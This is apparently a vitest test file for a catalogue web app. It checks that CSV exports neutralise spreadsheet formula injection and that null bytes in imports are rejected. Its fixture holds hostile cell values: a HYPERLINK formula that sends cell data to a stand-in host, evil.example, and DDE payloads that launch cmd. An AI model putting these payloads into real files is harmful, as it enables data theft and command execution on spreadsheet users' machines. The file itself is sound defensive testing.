import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { createCatalogueService, exportJson } from "../../src/modules/catalogue/index.js";
import { createRegionsRepository, loadGeography } from "../../src/modules/regions/index.js";
import { toCsv } from "../../src/web/csv.js";
import { createTestApp } from "../support/app.js";
import { describeEachDatabase } from "../support/database.js";

/**
 * Item 6 of issue 13 (formula injection): every CSV export goes through one writer (src/web/csv.ts, csv-stringify with
 * escape_formulas), so a cell a spreadsheet would run as a formula (=, +, -, @, tab, carriage return first) is written
 * as text. Before, /api/v1/export/services.csv wrote an instrument named "=HYPERLINK(…)" as a live formula.
 */
const TOKEN = "csv-test-admin-token-0123456789";
const HOSTILE = {
  name: '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
  nameEn: "+cmd|' /C calc'!A0",
  summary: "@SUM(1+1)*cmd|' /C calc'!A0",
  summaryEn: "-2+3+cmd|' /C calc'!A0",
  description: "\t=1+1",
};
const FORMULA_START = /^[=+\-@\t\r]/;

describe("the shared CSV writer", () => {
  it("escapes every formula-like cell and leaves numbers and ordinary text alone", () => {
    const csv = toCsv(
      ["a", "b", "c"],
      [
        ["=1+1", -5, "gewoon"],
        ["@x", null, "\rx"],
      ],
    );
    const rows = parse(csv, { bom: true, relax_quotes: true }) as string[][];
    expect(rows[1]).toEqual(["'=1+1", "-5", "gewoon"]);
    expect(rows[2]).toEqual(["'@x", "", "'\rx"]);
    const lines = parse(toCsv(["a"], [["regel 1\nregel 2"], ["x,y"]]), { bom: true }) as string[][];
    expect(lines).toEqual([["a"], ["regel 1\nregel 2"], ["x,y"]]);
  });
});

describeEachDatabase("CSV exports: no formula reaches a spreadsheet", (database) => {
  let app: Awaited<ReturnType<typeof createTestApp>>;
  const importJson = (body: unknown) =>
    app.request("/api/v1/admin/import", {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${TOKEN}` },
      body: JSON.stringify(body),
    });

  beforeAll(async () => {
    app = await createTestApp(database(), { CATALOGUE_ADMIN_TOKEN: TOKEN });
    const db = database().db;
    const exported = await exportJson(
      createCatalogueService({ db, geography: await loadGeography(createRegionsRepository(db)) }),
    );
    const [first] = exported.instruments;
    const response = await importJson({
      organizations: [],
      instruments: [
        {
          ...first,
          name: { nl: HOSTILE.name, en: HOSTILE.nameEn },
          summary: { nl: HOSTILE.summary, en: HOSTILE.summaryEn },
          description: { nl: HOSTILE.description, en: HOSTILE.description },
        },
      ],
    });
    expect(response.status, await response.clone().text()).toBe(200);
  });

  it("writes a formula-bearing instrument name as text in /api/v1/export/services.csv", async () => {
    const response = await app.request("/api/v1/export/services.csv");
    expect(response.status).toBe(200);
    const csv = await response.text();
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const hostile = rows.find((row) => row.name_nl?.includes("HYPERLINK"));
    expect(hostile?.name_nl).toBe(`'${HOSTILE.name}`);
    expect(hostile?.name_en).toBe(`'${HOSTILE.nameEn}`);
    expect(hostile?.summary_nl).toBe(`'${HOSTILE.summary}`);
    expect(hostile?.summary_en).toBe(`'${HOSTILE.summaryEn}`);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        expect(FORMULA_START.test(cell), `${row.ref_id}.${column}: ${cell}`).toBe(false);
  });

  it("an export imported again changes nothing: the import reads the escaped cells back", async () => {
    const csv = await (await app.request("/api/v1/export/services.csv")).text();
    const response = await app.request("/api/v1/admin/import", {
      method: "POST",
      headers: { "content-type": "text/csv", authorization: `Bearer ${TOKEN}` },
      body: csv,
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ ok: true, instruments: { created: 0, updated: 0 } });
  });
});

describeEachDatabase("JSON bodies: a null byte is the client's mistake, not a 500", (database) => {
  it("the catalogue import with a null byte in a name answers 400 problem+json", async () => {
    const app = await createTestApp(database(), { CATALOGUE_ADMIN_TOKEN: TOKEN });
    const db = database().db;
    const exported = await exportJson(
      createCatalogueService({ db, geography: await loadGeography(createRegionsRepository(db)) }),
    );
    const [first] = exported.instruments;
    const response = await app.request("/api/v1/admin/import", {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${TOKEN}` },
      body: JSON.stringify({
        organizations: [],
        instruments: [{ ...first, name: { nl: "Nul\u0000byte", en: "x" } }],
      }),
    });
    expect(response.status).toBe(400);
    expect(response.headers.get("content-type")).toContain("application/problem+json");
  });
});
